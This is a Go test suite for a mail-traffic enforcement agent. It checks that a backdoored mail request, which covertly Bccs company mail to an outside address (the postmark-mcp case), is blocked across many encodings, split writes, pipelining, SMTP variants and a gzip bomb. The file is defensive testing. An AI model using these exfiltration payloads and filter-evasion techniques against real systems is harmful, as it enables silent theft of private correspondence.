package enforce

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"

	"github.com/aarsm/aarsm/agent/internal/testenv"
)

// A mail request to the Postmark API, body as given.
func postmarkRequest(body string) []byte {
	return []byte("POST /email HTTP/1.1\r\nHost: api.postmarkapp.com\r\nContent-Type: application/json\r\n" +
		"X-Postmark-Server-Token: server-token\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body)
}

// The backdoored mail (the postmark-mcp Bcc) and its benign twin of the
// same length (an allowed Cc instead), each with a unique subject.
func evasionBodies(mark, pad string) (bad, twin string) {
	bad = fmt.Sprintf(`{"From":"ops@company.com","To":"ceo@company.com","Subject":"%s-bad","TextBody":"numbers%s","Bcc":"phan@giftshop.club"}`, mark, pad)
	twin = fmt.Sprintf(`{"From":"ops@company.com","To":"ceo@company.com","Subject":"%s-twi","TextBody":"numbers%s","Cc":"cfo@company.com"}`, mark, pad)
	return bad, twin
}

func pieces(b []byte, n int) [][]byte {
	var out [][]byte
	for len(b) > n {
		out = append(out, b[:n])
		b = b[n:]
	}
	return append(out, b)
}

// An evasion is a way of writing a request carrying body: the writes of
// one connection, and how many responses the client then waits for.
type evasion struct {
	name string
	pad  string // added to the mail's text
	// request builds the request carrying the mail's JSON body (default
	// postmarkRequest); writes splits it into writes (default: one).
	request   func(body string) []byte
	writes    func(req []byte) [][]byte
	responses int
	mails     int // mails on the connection (default 1)
	pauseMS   int
	readEach  bool // a response read after each write (keep-alive)
	// early: the mail is written in pieces, each released once judged on
	// what arrived so far: the bytes before the one that shows the
	// violation reach the API, the violating address does not.
	early bool
}

var crlf2 = []byte("\r\n\r\n")

// fields are the members of a mail's JSON body (evasionBodies).
func fields(body string) map[string]string {
	var m map[string]string
	if err := json.Unmarshal([]byte(body), &m); err != nil {
		panic(err)
	}
	return m
}

// encodedRequest is a Postmark request whose body is sent with a
// Content-Encoding (or a form of its own): head lines extra, body as
// encode makes it.
func encodedRequest(head string, encode func([]byte) []byte) func(string) []byte {
	return func(body string) []byte {
		b := encode([]byte(body))
		return append([]byte("POST /email HTTP/1.1\r\nHost: api.postmarkapp.com\r\nX-Postmark-Server-Token: server-token\r\n"+
			head+"Content-Length: "+fmt.Sprint(len(b))+"\r\n\r\n"), b...)
	}
}

func compress(w func(io.Writer) io.WriteCloser) func([]byte) []byte {
	return func(b []byte) []byte {
		var out bytes.Buffer
		zw := w(&out)
		zw.Write(b)
		zw.Close()
		return out.Bytes()
	}
}

var getPing = []byte("GET /ping HTTP/1.1\r\nHost: api.postmarkapp.com\r\n\r\n")

func evasions() []evasion {
	_, clean := evasionBodies("clean", "")
	cleanReq := postmarkRequest(clean)
	return []evasion{
		{name: "one write", writes: func(r []byte) [][]byte { return [][]byte{r} }},
		{name: "head and body apart", writes: func(r []byte) [][]byte {
			i := bytes.Index(r, []byte("\r\n\r\n")) + 4
			return [][]byte{r[:i], r[i:]}
		}},
		{name: "request line in pieces", writes: func(r []byte) [][]byte { return [][]byte{r[:3], r[3:]} }},
		{name: "7-byte writes", pauseMS: 2, early: true, writes: func(r []byte) [][]byte { return pieces(r, 7) }},
		{name: "7-byte writes, Bcc first", pauseMS: 2, early: true, request: func(body string) []byte {
			// The Bcc before a long text: the verdict at its closing quote
			// keeps the rest of the mail from leaving.
			f := fields(body)
			extra, key := f["Bcc"], "Bcc"
			if extra == "" {
				extra, key = f["Cc"], "Cc"
			}
			return postmarkRequest(fmt.Sprintf(`{%q:%q,"From":%q,"To":%q,"Subject":%q,"TextBody":%q}`,
				key, extra, f["From"], f["To"], f["Subject"], f["TextBody"]+strings.Repeat(" and more numbers", 20)))
		}, writes: func(r []byte) [][]byte { return pieces(r, 7) }},
		{name: "pipelined behind a GET", responses: 2, writes: func(r []byte) [][]byte {
			return [][]byte{append(append([]byte(nil), getPing...), r...)}
		}},
		{name: "pipelined behind a clean mail", responses: 2, mails: 2, writes: func(r []byte) [][]byte {
			return [][]byte{append(append([]byte(nil), cleanReq...), r...)}
		}},
		{name: "same length on keep-alive", responses: 3, mails: 3, readEach: true, writes: func(r []byte) [][]byte {
			// Two clean mails of exactly the backdoored request's length
			// first: a retry check on length and leading bytes took the
			// third for a retry of the second.
			c := func(n int) []byte {
				return postmarkRequest(fmt.Sprintf(`{"From":"ops@company.com","To":"ceo@company.com","Subject":"%d-%d-c","TextBody":"numbers","Cc":"cfo1234@company.com"}`, time.Now().UnixNano(), n))
			}
			return [][]byte{c(1), c(2), r}
		}},
		{name: "gzip", request: encodedRequest("Content-Type: application/json\r\nContent-Encoding: gzip\r\n",
			compress(func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }))},
		{name: "br", request: encodedRequest("Content-Type: application/json\r\nContent-Encoding: br\r\n",
			compress(func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) }))},
		{name: "zstd", request: encodedRequest("Content-Type: application/json\r\nContent-Encoding: zstd\r\n",
			compress(func(w io.Writer) io.WriteCloser { z, _ := zstd.NewWriter(w); return z }))},
		{name: "deflate, then gzip", request: encodedRequest("Content-Type: application/json\r\nContent-Encoding: deflate, gzip\r\n",
			func(b []byte) []byte {
				return compress(func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) })(
					compress(func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) })(b))
			})},
		{name: "chunked with extensions, trailer", request: func(body string) []byte {
			half := len(body) / 2
			return []byte("POST /email HTTP/1.1\r\nHost: api.postmarkapp.com\r\nContent-Type: application/json\r\n" +
				"X-Postmark-Server-Token: server-token\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\n\r\n" +
				fmt.Sprintf("%x;ext=a\r\n%s\r\n%x;q=\"v;w\"\r\n%s\r\n0\r\nX-Note: t\r\n\r\n", half, body[:half], len(body)-half, body[half:]))
		}},
		{name: "JSON escapes and key case", request: func(body string) []byte {
			body = strings.ReplaceAll(body, "@", `\u0040`)
			body = strings.Replace(body, `"Bcc"`, `"bCC"`, 1)
			return postmarkRequest(body)
		}},
		{name: "form, every byte percent-encoded", request: func(body string) []byte {
			// The same mail as a Mailgun form.
			m := fields(body)
			var f strings.Builder
			for _, k := range []string{"From", "To", "Cc", "Bcc", "Subject", "TextBody"} {
				if v, ok := m[k]; ok {
					if f.Len() > 0 {
						f.WriteByte('&')
					}
					f.WriteString(strings.ToLower(k) + "=")
					for _, c := range []byte(v) {
						fmt.Fprintf(&f, "%%%02X", c)
					}
				}
			}
			b := f.String()
			return []byte("POST /v3/company.com/messages HTTP/1.1\r\nHost: api.mailgun.net\r\nAuthorization: Basic YXBpOmtleQ==\r\n" +
				"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + fmt.Sprint(len(b)) + "\r\n\r\n" + b)
		}},
		{name: "Gmail raw MIME, encoded words", request: func(body string) []byte {
			f := fields(body)
			var mime strings.Builder
			fmt.Fprintf(&mime, "From: %s\r\nTo: %s\r\nSubject: %s\r\n", f["From"], f["To"], f["Subject"])
			for _, k := range []string{"Cc", "Bcc"} {
				if v := f[k]; v != "" {
					// RFC 2047: the address inside a B-encoded word.
					fmt.Fprintf(&mime, "%s: =?utf-8?B?%s?=\r\n", k, base64.StdEncoding.EncodeToString([]byte(v)))
				}
			}
			fmt.Fprintf(&mime, "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n", f["TextBody"])
			b := `{"raw":"` + base64.URLEncoding.EncodeToString([]byte(mime.String())) + `"}`
			return []byte("POST /gmail/v1/users/me/messages/send HTTP/1.1\r\nHost: gmail.googleapis.com\r\nAuthorization: Bearer t\r\n" +
				"Content-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(b)) + "\r\n\r\n" + b)
		}},
		{name: "recipient in the Headers list", request: func(body string) []byte {
			f := fields(body)
			hdr := ""
			for _, k := range []string{"Cc", "Bcc"} {
				if v := f[k]; v != "" {
					hdr = fmt.Sprintf(`[{"Name":%q,"Value":%q}]`, k, v)
				}
			}
			return postmarkRequest(fmt.Sprintf(`{"From":%q,"To":%q,"Subject":%q,"TextBody":%q,"Headers":%s}`, f["From"], f["To"], f["Subject"], f["TextBody"], hdr))
		}},
		{name: "recipients over two personalizations", mails: 2, request: func(body string) []byte {
			// SendGrid: the second personalization carries the extra recipient.
			f := fields(body)
			extra := f["Cc"] + f["Bcc"]
			b := fmt.Sprintf(`{"personalizations":[{"to":[{"email":%q}]},{"to":[{"email":%q}],"bcc":[{"email":%q}]}],"from":{"email":%q},"subject":%q,"content":[{"type":"text/plain","value":%q}]}`,
				f["To"], f["To"], extra, f["From"], f["Subject"], f["TextBody"])
			return []byte("POST /v3/mail/send HTTP/1.1\r\nHost: api.sendgrid.com\r\nAuthorization: Bearer SG.t\r\n" +
				"Content-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(b)) + "\r\n\r\n" + b)
		}},
		{name: "past the 16 KiB copy", pad: strings.Repeat(" lorem ipsum", 3400), writes: func(r []byte) [][]byte { return [][]byte{r} }},
	}
}

// sendMail runs the client that client makes, in the test's cgroup,
// against a fresh fake mail API; it returns the API, whether the client
// was killed (blocked), its output and error.
func sendMail(t *testing.T, e *env, client func(*testenv.MailAPI) *exec.Cmd) (api *testenv.MailAPI, killed bool, out string, err error) {
	t.Helper()
	api = testenv.NewMailAPI(t, e.ca)
	killed, out, err = runClient(t, e, client(api))
	return api, killed, out, err
}

// runClient runs cmd in the test's cgroup to its end; it returns whether
// it was killed (blocked), its output and its error.
func runClient(t *testing.T, e *env, cmd *exec.Cmd) (killed bool, out string, err error) {
	t.Helper()
	var b bytes.Buffer
	cmd.Stdout, cmd.Stderr = &b, &b
	if err := e.cg.Start(cmd); err != nil {
		t.Fatal(err)
	}
	err = cmd.Wait()
	var ee *exec.ExitError
	killed = errors.As(err, &ee) && ee.Sys().(syscall.WaitStatus).Signal() == syscall.SIGKILL
	return killed, b.String(), err
}

// bytesReached is how long a prefix of msg the server received; msg
// starts with a unique marker of minLen bytes, and shorter matches are
// coincidence.
func bytesReached(received, msg []byte, minLen int) int {
	n := prefixReached(received, msg)
	if n < minLen {
		return 0
	}
	return n
}

func prefixReached(received, msg []byte) int {
	lo, hi := 0, len(msg) // bytes.Contains of a prefix only fails past some length
	for lo < hi {
		mid := (lo + hi + 1) / 2
		if bytes.Contains(received, msg[:mid]) {
			lo = mid
		} else {
			hi = mid - 1
		}
	}
	return lo
}

// TestEvasions sends the backdoored mail in each way a client can write
// it over OpenSSL, and its benign twin the same way: the backdoored one
// is blocked with nothing of it at the API, the twin delivered. It prints
// the table.
func TestEvasions(t *testing.T) {
	e := start(t)
	type row struct {
		name            string
		blocked, twinOK bool
		reached, size   int
		address         bool // phan@giftshop.club reached the API whole
	}
	var rows []row
	for _, ev := range evasions() {
		t.Run(ev.name, func(t *testing.T) {
			mark := marker(t)
			bad, twin := evasionBodies(mark, ev.pad)
			r := row{name: ev.name}
			responses := max(ev.responses, 1)
			for _, v := range []struct {
				body string
				bad  bool
			}{{bad, true}, {twin, false}} {
				judgedBefore := e.agent.Stats().Judged
				build, split := postmarkRequest, func(r []byte) [][]byte { return [][]byte{r} }
				if ev.request != nil {
					build = ev.request
				}
				if ev.writes != nil {
					split = ev.writes
				}
				req := build(v.body)
				api, killed, out, err := sendMail(t, e, func(api *testenv.MailAPI) *exec.Cmd {
					if ev.readEach {
						return testenv.RawWritesReadEach(t, e.ca, api.Addr(), []string{"http/1.1"}, split(req), ev.pauseMS)
					}
					return testenv.RawWrites(t, e.ca, api.Addr(), []string{"http/1.1"}, split(req), ev.pauseMS, responses)
				})
				if v.bad {
					r.blocked = killed
					// The violating part: from the mail's own subject on
					// (what precedes it, clean mails share); of an
					// encoded body, the body as sent.
					part, min := req[bytes.Index(req, crlf2)+4:], 16
					if i := bytes.Index(req, []byte(mark+"-bad")); i >= 0 {
						part, min = req[i:], len(mark)
					}
					r.reached, r.size = bytesReached(api.Received(), part, min), len(part)
					r.address = bytes.Contains(api.Received(), []byte("phan@giftshop.club"))
					if r.address {
						t.Errorf("the violating address reached the API")
					}
					if !r.blocked {
						t.Errorf("backdoored mail not blocked: client %v\n%s", err, out)
					}
					for _, got := range api.Requests() {
						if strings.Contains(string(got.Body), mark+"-bad") {
							t.Errorf("the API accepted the backdoored mail")
						}
					}
					if r.reached != 0 && !ev.early {
						t.Errorf("%d of the backdoored mail's %d bytes reached the API", r.reached, r.size)
					}
					continue
				}
				// Every request of the connection accepted (bodies may be
				// encoded: the API keeps them as sent).
				r.twinOK = err == nil && len(api.Requests()) == responses
				if !r.twinOK {
					t.Errorf("benign twin not delivered: client %v, %d requests accepted\n%s", err, len(api.Requests()), out)
				}
				// Each mail of the connection judged exactly once (none
				// dropped as a retry, none judged twice).
				if got, want := e.agent.Stats().Judged-judgedBefore, uint64(max(ev.mails, 1)); got != want {
					t.Errorf("benign twin: %d mails judged, want %d", got, want)
				}
			}
			rows = append(rows, r)
		})
	}
	var b strings.Builder
	fmt.Fprintf(&b, "\n%-38s %-8s %-15s %-11s %s\n", "technique", "blocked", "twin delivered", "Bcc at API", "bytes of the violating mail at the API (from its subject on)")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-38s %-8v %-15v %-11v %d of %d\n", r.name, r.blocked, r.twinOK, r.address, r.reached, r.size)
	}
	t.Log(b.String())
}

// SMTP with the envelope pipelined into one write (RFC 2920): the write
// naming the outside recipient is judged while held and never leaves; the
// same session with internal recipients only is delivered.
func TestSMTPPipelinedEnvelope(t *testing.T) {
	e := start(t)
	for _, v := range []struct {
		rcpt string
		bad  bool
	}{{"phan@giftshop.club", true}, {"cfo@company.com", false}} {
		smtp := testenv.NewSMTPServer(t, e.ca)
		writes := [][]byte{
			[]byte("EHLO client.example\r\n"),
			[]byte("MAIL FROM:<ops@company.com>\r\nRCPT TO:<ceo@company.com>\r\nRCPT TO:<" + v.rcpt + ">\r\nDATA\r\n"),
			[]byte("From: ops@company.com\r\nTo: ceo@company.com\r\nSubject: Q3\r\n\r\nnumbers\r\n.\r\nQUIT\r\n"),
		}
		killed, out, err := runClient(t, e, testenv.RawWrites(t, e.ca, smtp.Addr(), nil, writes, 50, 0))
		smtp.WaitClosed(t, 1, 10*time.Second)
		if !v.bad {
			if err != nil || len(smtp.Mails()) != 1 {
				t.Errorf("internal mail: client %v, %d mails delivered\n%s", err, len(smtp.Mails()), out)
			}
			continue
		}
		if !killed {
			t.Errorf("pipelined envelope to %s: client %v, want killed", v.rcpt, err)
		}
		if got := smtp.Recipients(); len(got) != 0 || len(smtp.Mails()) != 0 {
			t.Errorf("the server received recipients %v and %d mails", got, len(smtp.Mails()))
		}
	}
}

// A request to a mail API whose body does not parse (a lenient server may
// still read the Bcc in it) is a decision of its own: blocked under the
// company policy (unreadable_mail_requests), with the reason in the
// verdict, and nothing of it at the API.
func TestUnreadableMailRequestBlocked(t *testing.T) {
	e := start(t)
	body := `{"From":"ops@company.com","To":"ceo@company.com",,"Subject":"` + marker(t) + `","Bcc":"phan@giftshop.club"}`
	api, killed, out, err := sendMail(t, e, func(api *testenv.MailAPI) *exec.Cmd {
		return testenv.RawWrites(t, e.ca, api.Addr(), []string{"http/1.1"}, [][]byte{postmarkRequest(body)}, 0, 1)
	})
	if !killed {
		t.Fatalf("unreadable mail request: client %v, want killed\n%s", err, out)
	}
	if len(api.Requests()) != 0 || bytes.Contains(api.Received(), []byte("giftshop")) {
		t.Errorf("the unreadable request reached the API")
	}
	v := e.jd.WaitFor(t, 1, "AARSM_VERDICT=block", "AARSM_RULES=unreadable_mail_requests")[0]
	if !strings.Contains(fmt.Sprint(v["MESSAGE"]), "invalid character") {
		t.Errorf("verdict without the reason: %v", v["MESSAGE"])
	}
}

// Bad input through the enforcing agent: each ends in a verdict or a
// release, with bounded time, and never a process left stopped.
func TestBadInputIsResolved(t *testing.T) {
	e := start(t)
	_, clean := evasionBodies("bad-input", "")
	cleanReq := postmarkRequest(clean)
	var zeros bytes.Buffer
	zw := gzip.NewWriter(&zeros)
	// A body that expands 1000-fold and past the 32 MiB limit.
	fmt.Fprint(zw, `{"From":"ops@company.com","To":"ceo@company.com","TextBody":"`)
	chunk := bytes.Repeat([]byte("0"), 1<<20)
	for range 40 {
		zw.Write(chunk)
	}
	fmt.Fprint(zw, `"}`)
	zw.Close()
	bomb := append([]byte("POST /email HTTP/1.1\r\nHost: api.postmarkapp.com\r\nContent-Type: application/json\r\n"+
		"Content-Encoding: gzip\r\nX-Postmark-Server-Token: t\r\nContent-Length: "+fmt.Sprint(zeros.Len())+"\r\n\r\n"), zeros.Bytes()...)
	for _, c := range []struct {
		name      string
		writes    [][]byte
		pauseMS   int
		responses int
		delivered int  // requests the API must have accepted
		killed    bool // blocked
	}{
		{name: "a request that never completes", writes: [][]byte{cleanReq[:len(cleanReq)-20]}, responses: 1},
		{name: "one byte per write", writes: pieces(cleanReq, 1), pauseMS: 1, responses: 1, delivered: 1},
		{name: "a thousand pipelined requests", writes: [][]byte{bytes.Repeat(cleanReq, 1000)}, responses: 1000, delivered: 1000},
		{name: "a body expanding 1000-fold past the limit", writes: [][]byte{bomb}, responses: 1, killed: true},
	} {
		t.Run(c.name, func(t *testing.T) {
			api, killed, out, err := sendMail(t, e, func(api *testenv.MailAPI) *exec.Cmd {
				return testenv.RawWrites(t, e.ca, api.Addr(), []string{"http/1.1"}, c.writes, c.pauseMS, c.responses)
			})
			if killed != c.killed {
				t.Errorf("client killed %v, want %v (%v)\n%s", killed, c.killed, err, out)
			}
			if n := len(api.Requests()); n != c.delivered {
				t.Errorf("the API accepted %d requests, want %d", n, c.delivered)
			}
			pids, _ := e.cg.PIDs()
			for _, p := range pids {
				if testenv.ProcessState(p) == 'T' {
					t.Errorf("pid %d left stopped", p)
				}
			}
		})
	}
}

// SMTP upgraded with STARTTLS (curl smtp:// --ssl-reqd): the plaintext
// part before the upgrade is not mail; after it, the session is judged as
// over implicit TLS: the RCPT TO naming an outside recipient never
// reaches the server, the internal twin is delivered.
func TestSMTPStartTLS(t *testing.T) {
	e := start(t)
	data := []byte("From: ops@company.com\r\nTo: ceo@company.com\r\nSubject: numbers\r\n\r\nQ3 numbers.\r\n")
	for _, v := range []struct {
		rcpt string
		bad  bool
	}{{"phan@giftshop.club", true}, {"cfo@company.com", false}} {
		smtp := testenv.NewSMTPStartTLSServer(t, e.ca)
		_, out, err := runClient(t, e, testenv.CurlSMTP(t, e.ca, smtp.URL(), "ops@company.com", []string{"ceo@company.com", v.rcpt}, data))
		smtp.WaitClosed(t, 1, 10*time.Second)
		if !v.bad {
			if err != nil || len(smtp.Mails()) != 1 {
				t.Errorf("internal mail over STARTTLS: %v, %d mails, errors %v\n%s", err, len(smtp.Mails()), smtp.Errors(), out)
			}
			continue
		}
		if err == nil || len(smtp.Mails()) != 0 || slices.Contains(smtp.Recipients(), v.rcpt) {
			t.Errorf("outside recipient over STARTTLS: client %v, mails %d, recipients %v", err, len(smtp.Mails()), smtp.Recipients())
		}
	}
}

// SMTP CHUNKING (RFC 3030): the message in one BDAT ... LAST chunk whose
// headers name an outside recipient. The envelope is internal; the chunk
// is judged on its header section while held and never reaches the
// server. The twin (an internal Cc) is delivered.
func TestSMTPBDAT(t *testing.T) {
	e := start(t)
	for _, v := range []struct {
		cc  string
		bad bool
	}{{"phan@giftshop.club", true}, {"cfo@company.com", false}} {
		smtp := testenv.NewSMTPServer(t, e.ca)
		msg := "From: ops@company.com\r\nTo: ceo@company.com\r\nCc: " + v.cc + "\r\nSubject: Q3\r\n\r\nnumbers\r\n"
		writes := [][]byte{
			[]byte("EHLO client.example\r\n"),
			[]byte("MAIL FROM:<ops@company.com>\r\n"),
			[]byte("RCPT TO:<ceo@company.com>\r\n"),
			[]byte(fmt.Sprintf("BDAT %d LAST\r\n%s", len(msg), msg)),
			[]byte("QUIT\r\n"),
		}
		killed, out, err := runClient(t, e, testenv.RawWrites(t, e.ca, smtp.Addr(), nil, writes, 50, 0))
		smtp.WaitClosed(t, 1, 10*time.Second)
		if v.bad != killed {
			t.Errorf("BDAT with Cc %s: client killed %v (%v)\n%s", v.cc, killed, err, out)
		}
		if want := map[bool]int{true: 0, false: 1}[v.bad]; len(smtp.Mails()) != want {
			t.Errorf("BDAT with Cc %s: %d mails delivered, want %d", v.cc, len(smtp.Mails()), want)
		}
	}
}
